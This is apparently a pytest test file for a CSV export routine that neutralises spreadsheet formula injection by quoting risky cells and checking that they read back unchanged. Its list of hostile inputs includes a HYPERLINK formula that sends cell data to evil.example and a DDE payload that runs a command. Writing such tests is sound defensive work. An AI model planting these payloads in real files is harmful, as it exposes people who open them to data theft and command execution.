"""Every CSV cell a spreadsheet would read as a formula is neutralised, the rest kept as is;
a cell's own leading quote is quoted too, so that the quote is always one to take back."""

import csv
import io

import pytest

from audit.csv_export import cell_value, csv_lines, neutralise_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_a_quote_and_keeps_its_text(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain reason", "tenant-42:inv-1847", "a=b", "1-2", "",
                                   "x'"])
def test_an_ordinary_cell_is_kept_exactly(value):
    assert neutralise_cell(value) == value


def test_non_text_cells_are_written_as_their_text():
    assert neutralise_cell(None) == ""
    assert neutralise_cell(42) == "42"
    assert neutralise_cell(-5) == "'-5"
    assert neutralise_cell({"status": "running"}) == "{'status': 'running'}"


def test_csv_lines_neutralise_every_cell_and_round_trip_through_a_csv_reader():
    lines = "".join(csv_lines(["id", "reason"], [[1, HOSTILE[0]], [2, "fine, with a comma"]]))
    rows = list(csv.reader(io.StringIO(lines)))
    assert rows == [["id", "reason"], ["1", "'" + HOSTILE[0]], ["2", "fine, with a comma"]]


@pytest.mark.parametrize("value", [*HOSTILE, "'x", "'-1 duplicate", "''", "plain", "", "x'"])
def test_a_cell_read_back_is_the_text_it_was_written_from(value):
    """One quote taken back, whatever the text: "-1" and "'-1" are written apart."""
    assert cell_value(neutralise_cell(value)) == value


def test_a_text_that_begins_with_a_quote_is_written_with_one_more():
    assert neutralise_cell("'-1") == "''-1" and neutralise_cell("-1") == "'-1"

